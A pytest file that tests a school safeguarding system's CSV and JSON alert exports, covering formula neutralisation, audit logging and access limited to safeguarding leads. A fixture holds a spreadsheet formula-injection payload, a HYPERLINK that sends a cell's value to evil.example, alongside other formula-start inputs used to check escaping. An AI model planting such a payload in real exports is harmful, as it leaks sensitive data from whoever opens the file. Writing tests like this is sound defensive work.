"""Exports for CPOMS or MyConcern: CSV and JSON that read back, formulas neutralised, audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

from models.audit import AuditEvent
from models.learners import Learner
from models.safeguarding import Alert, AlertAction, AlertActionKind, AlertStatus
from models.staff import Role
from resolvers.context import Services
from resolvers.safeguarding import deliveries, export
from schema.common import to_global_id
from tests import factories
from tests.classroom.helpers import error_code, ok
from tests.conftest import GraphQLRunner
from tests.safeguarding.routing_helpers import Place, a_place, an_action, an_alert

EXPORT_ALERT = """
query Export($id: ID!, $format: ExportFormat!) {
  exportAlert(id: $id, format: $format) { filename contentType content incidents }
}
"""
EXPORT_CHRONOLOGY = """
query Chronology($learnerId: ID!, $format: ExportFormat!) {
  exportLearnerChronology(learnerId: $learnerId, format: $format) {
    filename contentType content incidents
  }
}
"""
#: Evidence and notes a pupil or a colleague could have typed to attack the DSL's spreadsheet.
FORMULA_EXCERPT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_NOTE = "+SUM(1,2) spoke to parent, no further action"


async def a_worked_alert(services: Services, place: Place, clock) -> Alert:
    """An alert acknowledged, noted and resolved by the lead, with hostile text in it."""
    alert = await an_alert(services, place, excerpt=FORMULA_EXCERPT, url="@import", title="-1")
    await an_action(services, alert, AlertActionKind.CREATED)
    clock.advance(minutes=5)
    await an_action(
        services,
        alert,
        AlertActionKind.ACKNOWLEDGED,
        actor=place.lead,
        from_status="NEW",
        to_status="ACKNOWLEDGED",
    )
    clock.advance(minutes=30)
    await an_action(
        services,
        alert,
        AlertActionKind.STATUS_CHANGED,
        actor=place.lead,
        note=FORMULA_NOTE,
        from_status="ACKNOWLEDGED",
        to_status="RESOLVED",
    )
    await Alert.filter(id=alert.id).update(status=AlertStatus.RESOLVED, assignee_id=place.lead.id)
    return await Alert.get(id=alert.id)


def read_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == export.COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


async def test_one_alert_as_csv_reads_back_with_formulas_neutralised(
    services: Services, gql: GraphQLRunner, clock
) -> None:
    # given
    place = await a_place(services, year_group=8)
    alert = await a_worked_alert(services, place, clock)
    # when
    result = ok(
        await gql(
            EXPORT_ALERT,
            place.lead_viewer,
            id=to_global_id("Alert", alert.id),
            format="CSV",
        )
    )["exportAlert"]
    # then
    assert result["contentType"] == "text/csv; charset=utf-8"
    assert result["filename"].endswith(".csv")
    assert result["incidents"] == 1
    [row] = read_csv(result["content"])
    assert row["Description"] == "'" + FORMULA_EXCERPT
    assert row["Evidence URL"] == "'@import"
    assert row["Page title"] == "'-1"
    assert row["Learner name"] == "Sam Taylor"
    assert row["Year group"] == "8"
    assert row["Category"] == "Self harm"
    assert row["Severity"] == "4"
    assert row["Status"] == "RESOLVED"
    assert row["Outcome"] == f"Resolved: {FORMULA_NOTE}"
    assert row["Assigned to"] == "Dana Lead"
    assert row["Incident date/time"] == alert.first_at.isoformat()
    lines = row["Actions taken"].split("\n")
    assert len(lines) == 3
    assert lines[0].endswith("System - Alert raised")
    assert "Dana Lead - Acknowledged (NEW to ACKNOWLEDGED)" in lines[1]
    assert lines[2].endswith(f"(ACKNOWLEDGED to RESOLVED): {FORMULA_NOTE}")
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@")), cell


async def test_one_alert_as_json_carries_evidence_actions_and_outcome(
    services: Services, gql: GraphQLRunner, clock
) -> None:
    # given
    place = await a_place(services)
    alert = await a_worked_alert(services, place, clock)
    # when
    result = ok(
        await gql(
            EXPORT_ALERT,
            place.lead_viewer,
            id=to_global_id("Alert", alert.id),
            format="JSON",
        )
    )["exportAlert"]
    # then: JSON keeps the text exactly (no spreadsheet runs it)
    document = json.loads(result["content"])
    assert document["format"] == export.FORMAT_NAME
    [incident] = document["incidents"]
    assert incident["description"] == FORMULA_EXCERPT
    assert incident["evidence"] == {"url": "@import", "title": "-1", "app": "Chrome"}
    assert incident["learner"] == {"name": "Sam Taylor", "yearGroup": 10}
    assert incident["status"] == "RESOLVED"
    assert [a["action"] for a in incident["actions"]] == [
        "Alert raised",
        "Acknowledged",
        "Status changed",
    ]
    assert [a["by"] for a in incident["actions"]] == ["System", "Dana Lead", "Dana Lead"]
    assert incident["actions"][2]["note"] == FORMULA_NOTE


async def test_a_chronology_holds_every_alert_of_the_learner_oldest_first(
    services: Services, gql: GraphQLRunner, clock
) -> None:
    # given: two alerts about the learner, one about a classmate
    place = await a_place(services)
    later = await an_alert(services, place, category="BULLYING", at=clock.now)
    earlier = await an_alert(services, place, category="SUICIDE", at=clock.now - timedelta(days=3))
    classmate = await factories.learner(services, place.school)
    await an_alert(services, place, learner=classmate)
    # when
    results = {
        fmt: ok(
            await gql(
                EXPORT_CHRONOLOGY,
                place.lead_viewer,
                learnerId=to_global_id("Learner", place.learner.id),
                format=fmt,
            )
        )["exportLearnerChronology"]
        for fmt in ("CSV", "JSON")
    }
    # then
    rows = read_csv(results["CSV"]["content"])
    refs = [deliveries.alert_ref(earlier.id), deliveries.alert_ref(later.id)]
    assert [r["Incident reference"] for r in rows] == refs
    document = json.loads(results["JSON"]["content"])
    assert document["learner"]["name"] == "Sam Taylor"
    assert [i["reference"] for i in document["incidents"]] == refs
    assert results["JSON"]["incidents"] == 2


async def test_a_learner_who_left_can_still_be_exported(
    services: Services, gql: GraphQLRunner, clock
) -> None:
    # given: the file must follow the child to the next school
    place = await a_place(services)
    await an_alert(services, place)
    await Learner.filter(id=place.learner.id).update(left_at=clock.now)
    # when
    result = ok(
        await gql(
            EXPORT_CHRONOLOGY,
            place.lead_viewer,
            learnerId=to_global_id("Learner", place.learner.id),
            format="JSON",
        )
    )["exportLearnerChronology"]
    # then
    assert result["incidents"] == 1


async def test_every_export_is_audited_and_on_the_alert_history(
    services: Services, gql: GraphQLRunner, clock
) -> None:
    # given
    place = await a_place(services)
    alert = await an_alert(services, place)
    # when
    ok(
        await gql(
            EXPORT_ALERT,
            place.lead_viewer,
            id=to_global_id("Alert", alert.id),
            format="CSV",
        )
    )
    # then
    [event] = await AuditEvent.filter(action="safeguarding.export")
    assert event.actor_id == str(place.lead.id)
    assert event.target_ids == [str(alert.id)]
    assert "format:CSV" in event.fields_touched
    [action] = await AlertAction.filter(alert_id=alert.id, kind=AlertActionKind.EXPORTED)
    assert action.actor_id == place.lead.id


async def test_only_the_school_s_safeguarding_leads_export(
    services: Services, gql: GraphQLRunner
) -> None:
    # given
    place = await a_place(services)
    alert = await an_alert(services, place)
    other = await a_place(services)
    admin = await factories.admin_viewer(place.school)
    teacher = factories.viewer(await factories.staff(place.school), place.school, Role.TEACHER)
    variables: dict[str, Any] = {"id": to_global_id("Alert", alert.id), "format": "JSON"}
    learner = {"learnerId": to_global_id("Learner", place.learner.id), "format": "CSV"}
    # when / then
    for viewer in (admin, teacher):
        assert error_code(await gql(EXPORT_ALERT, viewer, **variables)) == "FORBIDDEN"
        assert error_code(await gql(EXPORT_CHRONOLOGY, viewer, **learner)) == "FORBIDDEN"
    assert error_code(await gql(EXPORT_ALERT, other.lead_viewer, **variables)) == "NOT_FOUND"
    assert error_code(await gql(EXPORT_CHRONOLOGY, other.lead_viewer, **learner)) == "NOT_FOUND"
    assert error_code(await gql(EXPORT_ALERT, None, **variables)) == "UNAUTHENTICATED"
    assert not await AuditEvent.filter(action="safeguarding.export").exists()


def test_neutralise_prefixes_only_formula_starts() -> None:
    # given / when / then
    cases = {
        "=1+1": "'=1+1",
        "+44 7700": "'+44 7700",
        "-2": "'-2",
        "@SUM": "'@SUM",
        "\tx": "'\tx",
        "plain": "plain",
        "a=b": "a=b",
        "": "",
    }
    assert {given: export.neutralise(given) for given in cases} == cases
